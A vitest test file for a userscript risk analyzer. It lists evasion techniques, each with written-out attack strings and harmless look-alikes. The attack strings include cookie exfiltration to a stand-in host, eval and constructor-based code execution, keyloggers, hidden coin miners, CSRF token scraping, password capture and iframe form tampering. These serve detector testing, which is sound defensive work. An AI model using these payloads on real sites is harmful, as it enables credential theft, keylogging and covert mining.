import { describe, expect, test } from "vitest";
import { analyzeScript } from "./analyze-script.ts";
import { userscript } from "./testing/find-in.ts";

/** A way to hide what a script does, with harmless scripts that look alike. */
interface Evasion {
	readonly name: string;
	readonly level: "red" | "amber";
	readonly attacks: readonly string[];
	readonly twins: readonly string[];
}

const SEND = `fetch('https://c.test/' + document.cookie)`;
const CODE = `"${SEND}"`;
const HARMLESS = `"document.title = 'x'"`;

const OWN_PROMISE = `class Own extends Promise { then(yes, no) { return super.then((it) => yes(it + "o"), no); } }`;

const EVASIONS: readonly Evasion[] = [
	{
		name: "a class that extends Promise and has a `then` of its own",
		level: "red",
		attacks: [
			`Own.resolve("ab").then((it) => { const box = {}; box[it] = document.cookie; fetch("https://c.test/" + box["abo"]); });`,
			`(async () => { const box = { [await Own.resolve("ab")]: document.cookie }; fetch("https://c.test/" + box.abo); })();`,
			`Own.resolve("a").then((it) => it).then((it) => { const box = {}; box[it] = document.cookie; fetch("https://c.test/" + box["aoo"]); });`,
			`Promise.resolve.call(Own, "ab").then((it) => { if (it === "abo") ${SEND}; });`,
		].map((attack) => `${OWN_PROMISE} ${attack}`),
		twins: [`${OWN_PROMISE} Own.resolve("ab").then((it) => { document.title = it; });`],
	},
	{
		name: "code reached through arguments.callee",
		level: "red",
		attacks: [
			`(function () { arguments.callee.constructor(${CODE})(); })();`,
			`(function () { if (!window.done) { window.done = 1; arguments.callee(); return; } ${SEND}; })();`,
			`(function () { arguments.callee.leak = () => ${SEND}; arguments.callee.leak(); })();`,
			`(function (n) { const again = arguments["cal" + "lee"]; if (n) ${SEND}; else again(1); })();`,
		],
		twins: [
			`(function () { arguments.callee.constructor(${HARMLESS})(); })();`,
			"(function (n) { if (n > 3) return; document.title += n; arguments.callee(n + 1); })(0);",
		],
	},
	{
		name: "code reached through fn.caller and fn.arguments",
		level: "red",
		attacks: [
			`function run() { return run.caller("https://c.test/"); } function sends(u) { if (u) fetch(u + document.cookie); else run(); } sends();`,
			`function f() { return f.caller.constructor(${CODE}); } function g() { f()(); } g();`,
			`function f() { fetch("https://c.test/" + f.caller.arguments[0]); } function g(x) { f(); } g(document.cookie);`,
			`function f() { fetch("https://c.test/" + f.arguments[0]); } f(document.cookie);`,
		],
		twins: [
			"function f() { document.title = f.arguments[0]; } f('x');",
			"const call = { caller: 'me' }; document.title = call.caller;",
		],
	},
	{
		name: "constructor.constructor of something unknown",
		level: "red",
		attacks: [
			`try { null.x; } catch (e) { e.constructor.constructor(${CODE})(); }`,
			`addEventListener("click", (e) => e.constructor.constructor(${CODE})());`,
			`new (new Date().constructor.constructor)(${CODE})();`,
			`const { constructor: { constructor: F } } = pageLibrary; F(${CODE})();`,
			`pageLibrary["constructor"]["construct" + "or"](${CODE})();`,
			`pageLibrary.method.constructor(${CODE})();`,
			"fetch('https://c.test/').then((r) => r.text()).then((t) => pageLibrary.method.constructor(t)());",
			`Reflect.construct(pageLibrary.constructor.constructor, [${CODE}])();`,
			`Object.getPrototypeOf(async function () {}).constructor(${CODE})();`,
		],
		twins: [
			"const copy = new pageLibrary.constructor('name'); document.title = copy;",
			"try { null.x; } catch (e) { document.title = e.constructor.name; }",
			"function Box(options) { pageLibrary.Base.__super__.constructor.call(this, options); } window.Box = Box;",
			`new Date().constructor.constructor(${HARMLESS})();`,
		],
	},
	{
		name: "a node of a DOMParser put into the page",
		level: "red",
		attacks: [
			`const d = new DOMParser().parseFromString("<img src=x onerror=\\"${SEND}\\">", "text/html"); document.body.append(document.adoptNode(d.body.firstChild));`,
			`const d = new DOMParser().parseFromString("<img src=x onerror=\\"${SEND}\\">", "text/html"); d.querySelectorAll("img").forEach((i) => document.body.append(i));`,
			`const d = new DOMParser().parseFromString("<p>", "text/html"); d.body.innerHTML = "<img src=x onerror=\\"${SEND}\\">"; document.body.prepend(...d.body.children);`,
			`const d = new DOMParser().parseFromString("<img src=x>", "text/html"); const i = d.images[0]; i.setAttribute("onerror", ${CODE}); document.body.append(document.importNode(i, true));`,
			`const d = new DOMParser().parseFromString("<img src=x>", "text/html"); d.images[0].onerror = () => ${SEND}; document.body.append(d.images[0]);`,
			`const d = new DOMParser().parseFromString("<img src=x onerror=\\"${SEND}\\">", "text/html"); document.body.innerHTML = d.body.innerHTML;`,
			`const d = new DOMParser().parseFromString("<img src=x onerror=\\"${SEND}\\">", "text/html"); getSelection().getRangeAt(0).insertNode(d.body.firstChild);`,
		],
		twins: [
			`const d = new DOMParser().parseFromString("<p>hello</p>", "text/html"); document.body.append(document.adoptNode(d.body.firstChild));`,
			`const d = new DOMParser().parseFromString("<img src=x onerror=\\"${SEND}\\">", "text/html"); document.title = d.images.length;`,
			"fetch('/next').then((r) => r.text()).then((t) => { const d = new DOMParser().parseFromString(t, 'text/html'); document.title = d.title; });",
		],
	},
	{
		name: "key handlers without a parameter",
		level: "red",
		attacks: [
			`addEventListener("keydown", () => { fetch("https://c.test/" + event.key); });`,
			`addEventListener("keydown", function () { fetch("https://c.test/" + window.event.key); });`,
			`document.onkeyup = () => { navigator.sendBeacon("https://c.test/", event.keyCode); };`,
			`document.querySelector("input").onkeypress = function () { new Image().src = "https://c.test/" + String.fromCharCode(self.event.which); };`,
			`$(document).on("keydown", function () { const { key } = window.event; fetch("https://c.test/" + key); });`,
		],
		twins: [
			`addEventListener("keydown", () => { if (event.key === "Escape") document.title = "closed"; });`,
			`addEventListener("click", () => { fetch("/own?x=" + event.clientX); });`,
		],
	},
	{
		name: "a miner in a text that is run",
		level: "red",
		attacks: [
			"eval(\"var miner = new CoinHive.Anonymous('KEY', { throttle: 0.3 }); miner.start();\");",
			"new Function(\"new CoinHive.User('KEY', 'x').start()\")();",
			"const s = document.createElement('script'); s.textContent = \"new CoinHive.Anonymous('KEY').start()\"; document.head.append(s);",
			"setTimeout(\"new Cryptoloot.Anonymous('KEY').start()\", 5);",
			"(0, eval)(atob('bmV3IENvaW5IaXZlLkFub255bW91cygnS0VZJykuc3RhcnQoKQ=='));",
		],
		twins: [
			"eval(\"var table = new Table.Anonymous('KEY'); table.start();\");",
			"document.title = \"new CoinHive.Anonymous('KEY').start()\";",
		],
	},
	{
		name: "an address in character references of HTML",
		level: "red",
		attacks: [
			`const u = jQuery("<p>").html("&#104;&#116;tps&#58;//c.test/x").text(); fetch(u + document.cookie);`,
			`const u = $("<div/>").html("&#x68;ttps://c.test/x.js").text(); $.getScript(u);`,
			`const d = document.createElement("textarea"); d.innerHTML = "https&colon;&sol;&sol;c.test&sol;"; fetch(d.value + document.cookie);`,
			`const d = document.createElement("div"); d.innerHTML = "https&#58;//<b>c.test</b>/"; fetch(d.textContent + document.cookie);`,
			`document.body.innerHTML += "<script src='&#104;ttps&colon;//c.test/x.js'></script>";`,
		],
		twins: [
			`const t = jQuery("<p>").html("Fish &amp; chips&colon; &#163;5").text(); document.title = t;`,
			`const d = document.createElement("textarea"); d.innerHTML = "&sol;own"; fetch(d.value);`,
		],
	},
	{
		name: "a checkout button that leads away",
		level: "amber",
		attacks: [
			`jQuery("#checkout").click(function () { jQuery(location).attr("href", "https://pay.c.test/"); });`,
			`$("#buy").on("click", (e) => { e.preventDefault(); $(location).prop("href", "https://pay.c.test/"); });`,
			`$(".pay-now").on("click", () => { $(window).attr("location", "https://pay.c.test/"); });`,
			`$(".pay-now").on("click", () => { $(document).attr({ location: "https://pay.c.test/" }); });`,
		],
		twins: [
			`$("#next").on("click", () => { $(location).attr("href", "/page/2"); });`,
			`$("#box").on("click", () => { $("#box").attr("title", $(location).attr("hash")); });`,
		],
	},
	{
		name: "form values sent to the site without encryption",
		level: "amber",
		attacks: [
			`document.forms[0].addEventListener("submit", (e) => { fetch("http://" + location.host + "/x", { method: "POST", body: new FormData(e.target) }); });`,
			`document.forms[0].onsubmit = () => { new Image().src = "http://" + location.hostname + "/log?" + document.querySelector("[name=email]").value; };`,
			`document.forms[0].action = "http://" + location.host + "/login";`,
			`document.forms[0].onsubmit = () => { new WebSocket("ws://" + location.host + "/").send(document.querySelector("[name=email]").value); };`,
		],
		twins: [
			`document.forms[0].addEventListener("submit", (e) => { fetch("https://" + location.host + "/x", { method: "POST", body: new FormData(e.target) }); });`,
			`document.forms[0].addEventListener("submit", (e) => { fetch(location.protocol + "//" + location.host + "/x", { method: "POST", body: new FormData(e.target) }); });`,
			`fetch("http://" + location.host + "/x").then((r) => r.text()).then((t) => { document.title = t.length; });`,
		],
	},
	{
		name: "a password that is kept",
		level: "amber",
		attacks: [
			`const p = document.querySelector("#password"); p.onblur = () => localStorage.setItem("x", btoa(p.value));`,
			`const p = document.getElementById("pw"); p.onblur = () => { localStorage.saved = JSON.stringify({ host: location.host, p: p.value }); };`,
			`const p = document.querySelector("#password"); p.onblur = () => localStorage.setItem(p.value, "1");`,
			`const p = document.querySelector("#password"); p.onkeydown = (e) => { localStorage.x = (localStorage.x || "") + e.key; };`,
			`addEventListener("submit", (e) => { const d = Object.fromEntries(new FormData(e.target)); localStorage.setItem("x", d.password); });`,
			`addEventListener("submit", (e) => { sessionStorage.x = new FormData(e.target).get("password"); });`,
			`const p = document.querySelector("#password"); p.onblur = () => indexedDB.open("x").result.transaction("a").objectStore("a").put(p.value);`,
			`const p = document.querySelector("#password"); p.onblur = () => caches.open("x").then((c) => c.put("/x", new Response(p.value)));`,
			`const p = document.querySelector("#password"); p.onblur = () => { window.name = p.value; };`,
		],
		twins: [
			`const n = document.querySelector("#nickname"); n.onblur = () => localStorage.setItem("x", n.value);`,
			`const p = document.querySelector("#password"); p.onblur = () => localStorage.setItem("length", p.value === "" ? "0" : "1");`,
			`addEventListener("submit", (e) => { localStorage.setItem("x", new FormData(e.target).get("comment")); });`,
		],
	},
	{
		name: "a token cut out of a fetched page, and a request with it",
		level: "amber",
		attacks: [
			`fetch("/a").then((r) => r.text()).then((t) => { const k = t.match(/name="csrf" value="(.*?)"/)[1]; fetch("/b", { method: "POST", body: "k=" + k }); });`,
			`fetch("/a").then((r) => r.text()).then((t) => { const d = new DOMParser().parseFromString(t, "text/html"); const k = d.querySelector("[name=authenticity_token]").value; fetch("/b", { method: "POST", body: new URLSearchParams({ k }) }); });`,
			`const x = new XMLHttpRequest(); x.open("GET", "/a"); x.onload = () => { const k = x.responseText.split("csrf_token=")[1].slice(0, 32); const y = new XMLHttpRequest(); y.open("POST", "/b"); y.send("k=" + k); }; x.send();`,
			`fetch("/a").then((r) => r.text()).then((t) => { const at = t.indexOf("csrf_token="); fetch("/b", { method: "POST", body: t.slice(at + 11, at + 43) }); });`,
			`addEventListener("click", () => fetch("/a").then((r) => r.text()).then((t) => { const k = t.match(/csrf" value="(.*?)"/)[1]; fetch("/b", { method: "POST", body: "k=" + k }); }));`,
			`addEventListener("scroll", async () => { const t = await (await fetch("/a")).text(); const k = t.split("csrf_token=")[1]; fetch("/b", { method: "POST", headers: { "X-K": k } }); });`,
			`addEventListener("click", async () => { const d = new DOMParser().parseFromString(await (await fetch("/a")).text(), "text/html"); fetch("/b", { method: "POST", body: d.querySelector("[name=csrf]").value }); });`,
			`$.get("/a", (t) => { const k = $(t).find("input[name=_token]").val(); $.post("/b", { k }); });`,
		],
		twins: [
			`fetch("/a").then((r) => r.text()).then((t) => { document.title = t.match(/<title>(.*?)</)[1]; });`,
			`fetch("/a").then((r) => r.text()).then((t) => { const page = t.split("page=")[1]; fetch("/b?page=" + page).then((r) => r.text()).then((n) => { document.title = n; }); });`,
		],
	},
	{
		name: "a frame or window of the site in which a form is changed",
		level: "amber",
		attacks: [
			`const f = document.createElement("iframe"); f.src = "/settings"; f.onload = () => { const d = f.contentDocument; d.querySelector("[name=role]").value = "admin"; d.querySelector("form button").click(); }; document.body.append(f);`,
			`const f = document.createElement("iframe"); f.src = "/settings"; document.body.append(f); f.onload = () => { f.contentWindow.document.getElementsByName("forward")[0].value = "a@c.test"; };`,
			`const f = document.createElement("iframe"); f.src = "/settings"; document.body.append(f); f.onload = () => { const form = f.contentDocument.forms[0]; form.querySelector("input").checked = true; form.submit(); };`,
			`const w = open("/settings"); w.onload = () => { w.document.querySelector("#email").value = "a@c.test"; w.document.forms[0].submit(); };`,
			`frames[0].document.querySelector("#amount").value = 100; frames[0].document.forms[0].requestSubmit();`,
		],
		twins: [
			`const f = document.querySelector("iframe"); f.contentDocument.body.style.color = "red";`,
			`const f = document.createElement("iframe"); f.src = "/preview"; f.onload = () => { document.title = f.contentDocument.title; }; document.body.append(f);`,
		],
	},
];

const onShop = (body: string) => userscript(["match https://shop.example/*", "grant GM_setValue"], body);

describe.each(EVASIONS)("$name", ({ level, attacks, twins }) => {
	test.each(attacks)(`is ${level}: %s`, (code) => {
		const { risk_level } = analyzeScript({ code: onShop(code) });
		expect(level === "red" ? ["red"] : ["red", "amber"]).toContain(risk_level);
	});

	test.each(twins)("what looks alike is green: %s", (code) => {
		expect(analyzeScript({ code: onShop(code) })).toMatchObject({ risk_level: "green" });
	});
});
